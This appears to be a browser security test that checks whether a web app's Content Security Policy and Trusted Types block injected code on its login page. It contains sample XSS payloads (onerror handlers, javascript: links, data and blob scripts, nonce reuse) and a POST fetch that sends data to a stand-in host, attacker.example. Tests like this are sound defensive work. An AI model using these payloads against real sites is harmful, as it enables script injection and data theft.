/** Somebody's code in the page, as after a flaw of ours: what it tries does not work. */
import assert from 'node:assert/strict';
import { takeViolations } from '../harness/browser.ts';
import { test } from '../harness/test.ts';
import { until } from '../harness/until.ts';
import { useProduct } from '../harness/use-product.ts';

test.describe('a page that is attacked', () => {
  const product = useProduct();

  test('runs no script but those of the release list, and no markup, handler or address as code', async () => {
    const { page, context } = await product.visit();
    await page.goto('/user/login');
    await page.getByRole('button', { name: 'Accedi' }).waitFor();
    assert.deepEqual(takeViolations(), []);
    const tried = await page.evaluate(async () => {
      const ran: string[] = [];
      (window as unknown as { ran: string[] }).ran = ran;
      const outcome: Record<string, string> = {};
      const attempt = (name: string, act: () => void): void => {
        try {
          act();
          outcome[name] = 'done';
        } catch (error) {
          outcome[name] = error instanceof TypeError ? 'refused' : String(error);
        }
      };
      const script = (src: string) => () => {
        const tag = document.createElement('script');
        tag.src = src;
        document.head.append(tag);
      };
      attempt('markup', () => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran.push(1)">');
      });
      attempt('inner markup', () => {
        document.createElement('div').innerHTML = '<b>x</b>';
      });
      attempt('foreign script', script('https://attacker.example/x.js'));
      attempt('foreign script of the same name', script('https://attacker.example/shell/main.js'));
      attempt('script that no release lists', script('/shell/altro.js'));
      attempt('answer of the API as a script', script('/api/vix'));
      attempt('data as a script', script('data:text/javascript,ran.push(2)'));
      attempt(
        'blob as a script',
        script(URL.createObjectURL(new Blob(['ran.push(3)'], { type: 'text/javascript' }))),
      );
      attempt('worker', () => {
        void new Worker('/altro.js');
      });
      attempt('text as code', () => {
        setTimeout('ran.push(4)' as unknown as () => void);
      });
      attempt('text of a script', () => {
        const tag = document.createElement('script');
        tag.text = 'ran.push(5)';
        document.head.append(tag);
      });
      attempt('another policy', () => {
        (
          window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown };
          }
        ).trustedTypes.createPolicy('mine', { createScriptURL: (url: string) => url });
      });
      // Attributes, addresses and, but for Firefox, forms do not throw: they just do nothing.
      const button = document.createElement('button');
      attempt('handler', () => {
        button.setAttribute('onclick', 'ran.push(6)');
      });
      button.click();
      const link = document.createElement('a');
      link.href = 'javascript:ran.push(7)';
      document.body.append(link);
      link.click();
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
      const sent = await fetch('https://attacker.example/', { method: 'POST', body: 'dati' }).then(
        () => 'sent',
        () => 'refused',
      );
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      document.body.append(form);
      attempt('form', () => {
        form.submit();
      });
      return { outcome, sent, ran };
    });
    const stopped: string[] = [];
    const missing = () =>
      [
        'require-trusted-types-for',
        'connect-src',
        'frame-src',
        'form-action',
        'trusted-types',
      ].filter(
        (directive) =>
          !stopped.some(
            (violation) =>
              violation.includes(`: ${directive}`) || violation.includes('default-src'),
          ),
      );
    await until(() => {
      stopped.push(...takeViolations());
      return missing().length === 0;
    }, 'a violation of each policy').catch(() => undefined);
    assert.deepEqual(missing(), [], `these stopped nothing; seen: ${stopped.join(' | ')}`);
    assert.deepEqual(tried.ran, []);
    assert.equal(tried.sent, 'refused');
    assert.equal(page.url(), `${product.url}/user/login`);
    const { handler: _silent, form: _sometimes, ...loud } = tried.outcome;
    assert.deepEqual(
      Object.entries(loud).filter(([, result]) => result === 'done'),
      [],
    );
    await context.close();
  });

  test('does not run a script that was put into the markup with the nonce of the page', async () => {
    const { page, context } = await product.visit();
    const put = (text: string): string => {
      const nonce = /<script nonce="([^"]+)">/.exec(text)?.[1];
      assert.ok(nonce, 'the page has a nonce');
      return text.replace('<div id="app">', `<script nonce="${nonce}">ran = 1</script>$&`);
    };
    await page.route('**/user/login', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: put(await response.text()) });
    });
    await page.goto('/user/login');
    await page.getByRole('button', { name: 'Accedi' }).waitFor();
    assert.equal(await page.evaluate(() => 'ran' in window), false);
    await until(
      () => takeViolations().some((violation) => violation.includes('script-src')),
      'a violation of the policy of scripts',
    );
    await context.close();
  });
});
